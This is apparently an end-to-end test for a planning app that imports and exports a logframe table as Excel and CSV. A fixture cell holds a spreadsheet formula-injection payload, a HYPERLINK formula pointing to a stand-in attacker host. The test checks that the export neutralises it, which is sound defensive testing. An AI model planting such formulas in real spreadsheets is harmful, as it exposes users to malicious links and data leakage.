import { readFileSync } from 'node:fs'
import { describe, expect, it } from 'vitest'
import { csvToLogframe, emptyCells, logframeToXlsx, xlsxToLogframe, type Logframe } from '@cg/logframe'
import { createBoard } from '../support/boards.ts'
import { enterName } from './support/boardPage.ts'
import { e2eSkipReason, openWatchedPage } from './support/browser.ts'
import { useE2eEnvironment } from './support/e2eEnvironment.ts'

const skip = e2eSkipReason()
const SECTORS = (
  JSON.parse(readFileSync(new URL('../../templates/sectors.json', import.meta.url), 'utf8')) as {
    sectors: { id: string; names: Record<string, string> }[]
  }
).sectors

const LOGFRAME: Logframe = {
  title: 'Joint programme, Cox’s Bazar',
  rows: [
    { level: 'goal', sector: 'joint', cells: { ...emptyCells(), narrative: 'Children grow up safe and learning' } },
    {
      level: 'outcome',
      sector: 'joint',
      cells: {
        ...emptyCells(),
        narrative: 'Adolescents stay in school',
        // A participant's note that would run as a formula, below another note of the same cell.
        indicators: '% girls enrolled\n=HYPERLINK("http://evil.example/?x","Open the annex")',
        target: '60%',
      },
    },
    { level: 'output', sector: 'health', cells: { ...emptyCells(), narrative: 'Clinics screen for distress' } },
    { level: 'output', sector: 'education', cells: { ...emptyCells(), narrative: 'كل طفل في المدرسة' } },
    { level: 'activity', sector: 'joint', cells: { ...emptyCells(), narrative: 'Train 40 caseworkers' } },
  ],
}

describe.skipIf(skip)('the logframe as a spreadsheet, in Chromium', () => {
  const env = useE2eEnvironment('cg-e2e-logframe-')

  it('refuses a malformed file row by row, imports a good one, and exports the same table back', async () => {
    const board = await createBoard(env.server.url, 'Logframe')
    const { page, errors } = await openWatchedPage(env.browser)
    await page.goto(env.server.url + board.links.editor)
    await enterName(page, 'Lina')
    await page.getByRole('button', { name: 'Templates' }).click()

    const input = page.getByLabel('Import a logframe from Excel or CSV')
    await input.setInputFiles({
      name: 'draft.csv',
      mimeType: 'text/csv',
      buffer: Buffer.from('Level,Sector,Narrative summary\nGoal,,Safe\nImpact,,Bad level\nOutput,,No sector\n'),
    })
    const alert = page.getByRole('alert').filter({ hasText: 'nothing was added' })
    await alert.waitFor()
    expect(await alert.locator('li').allInnerTexts()).toEqual([
      'Row 3, column A: “Impact” is not a level (Goal, Outcome, Output or Activity).',
      'Row 4, column B: an output needs a sector.',
    ])
    expect(await page.locator('.tl-shape[data-shape-type="frame"]').count()).toBe(0)

    await input.setInputFiles({
      name: 'logframe.xlsx',
      mimeType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      buffer: Buffer.from(await logframeToXlsx(LOGFRAME, 'fr', SECTORS)),
    })
    await page.locator('.tl-shape[data-shape-type="frame"]').first().waitFor({ timeout: 15_000 })
    await page.getByText('كل طفل في المدرسة').first().waitFor()

    // The new frame is selected: export it as Excel and as CSV, and read the files back.
    const xlsxDownload = page.waitForEvent('download')
    await page.getByRole('button', { name: 'Excel (.xlsx)' }).click()
    const xlsx = await xlsxDownload
    expect(xlsx.suggestedFilename()).toMatch(/\.xlsx$/)
    const fromXlsx = await xlsxToLogframe(new Uint8Array(readFileSync(await xlsx.path())), {
      sectors: SECTORS,
      title: '',
    })
    expect(fromXlsx).toEqual({ ok: true, logframe: LOGFRAME })

    const csvDownload = page.waitForEvent('download')
    await page.getByRole('button', { name: 'CSV', exact: true }).click()
    const csv = await csvDownload
    const csvText = readFileSync(await csv.path(), 'utf8')
    const fromCsv = csvToLogframe(csvText, { sectors: SECTORS, title: LOGFRAME.title })
    expect(fromCsv).toEqual({ ok: true, logframe: LOGFRAME })
    // No line of the file, in a cell of one note or of several, starts like a formula.
    expect(csvText.split(/\r?\n/).filter((line) => /^"?[=+\-@\t]/.test(line))).toEqual([])
    expect(csvText).toContain(`'=HYPERLINK(""http://evil.example/?x""`)
    await page.screenshot({ path: 'test-results/logframe-imported.png' })
    expect(errors).toEqual([])
  })
})
